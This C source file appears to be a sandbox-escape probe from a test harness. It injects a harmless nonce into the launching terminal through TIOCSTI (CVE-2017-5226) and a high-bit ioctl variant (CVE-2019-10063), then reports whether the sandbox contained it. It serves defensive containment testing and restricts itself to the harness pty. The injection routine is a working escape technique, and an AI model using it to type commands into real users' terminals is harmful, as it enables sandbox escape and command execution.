/* TTY-01 (CVE-2017-5226): push the run nonce into the input queue of the
 * launching terminal with TIOCSTI. Runs only on the harness pty: --pty must name
 * it and VOID_PROBE_PTY must agree, else it would type into someone's shell. */
#include "probe.h"

#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define ID "TTY-01"
#define GROUP "tty-fd"

/* 1 when fd is the harness pty (same device), or it is a tty and the pty path
 * is not visible here to compare with; 0 otherwise. */
static int is_harness_tty(int fd, const char *pty)
{
    struct stat mine, harness;
    if (!isatty(fd) || fstat(fd, &mine) < 0)
        return 0;
    if (stat(pty, &harness) < 0)
        return 1;
    return S_ISCHR(harness.st_mode) && mine.st_rdev == harness.st_rdev;
}

/* The first fd among 0..2 and /dev/tty that reaches the harness pty, or -1. */
static int find_tty(const char *pty, char *which, size_t size)
{
    for (int fd = 0; fd <= 2; fd++)
        if (is_harness_tty(fd, pty)) {
            snprintf(which, size, "fd %d", fd);
            return fd;
        }
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (fd >= 0 && is_harness_tty(fd, pty)) {
        snprintf(which, size, "/dev/tty");
        return fd;
    }
    if (fd >= 0)
        close(fd);
    return -1;
}

static int tty_nr(void)
{
    FILE *f = fopen("/proc/self/stat", "r");
    int nr = -1;
    if (f) {
        if (fscanf(f, "%*d (%*[^)]) %*c %*d %*d %*d %d", &nr) != 1)
            nr = -1;
        fclose(f);
    }
    return nr;
}

/* Injects text; on failure also tries CVE-2019-10063's high-bit variant of the request. */
static int inject(int fd, const char *text, int *err)
{
    for (const char *c = text; *c; c++)
        if (ioctl(fd, TIOCSTI, c) < 0) {
            *err = errno;
            unsigned long high_bits = 0x123UL << 32 | TIOCSTI;
            return syscall(SYS_ioctl, fd, high_bits, c) == 0 ? 2 : 0;
        }
    return 1;
}

int main(int argc, char **argv)
{
    const char *pty = probe_arg(argc, argv, "pty");
    const char *env_pty = getenv("VOID_PROBE_PTY");
    if (!pty || !env_pty || strcmp(pty, env_pty) != 0)
        probe_verdict(ID, GROUP, PROBE_SKIP, "not on the harness pty (--pty and VOID_PROBE_PTY must both name it)");
    const char *nonce = probe_arg(argc, argv, "nonce");
    if (!nonce)
        probe_verdict(ID, GROUP, PROBE_SKIP, "no --nonce to inject");
    char which[32];
    int fd = find_tty(pty, which, sizeof which);
    pid_t sid = getsid(0);
    int nr = tty_nr();
    if (fd < 0)
        probe_verdict(ID, GROUP, PROBE_CONTAINED, "no fd or /dev/tty reaches the harness pty; sid %d tty_nr %d",
                      (int)sid, nr);
    int err = 0;
    int injected = inject(fd, nonce, &err);
    if (injected == 1)
        probe_verdict(ID, GROUP, PROBE_ESCAPED, "TIOCSTI on %s injected the nonce; sid %d tty_nr %d", which,
                      (int)sid, nr);
    if (injected == 2)
        probe_verdict(ID, GROUP, PROBE_ESCAPED, "TIOCSTI on %s: %s, but the high-bit request (CVE-2019-10063) worked",
                      which, strerror(err));
    probe_verdict(ID, GROUP, PROBE_CONTAINED, "TIOCSTI on %s: %s; sid %d tty_nr %d", which, strerror(err), (int)sid, nr);
}
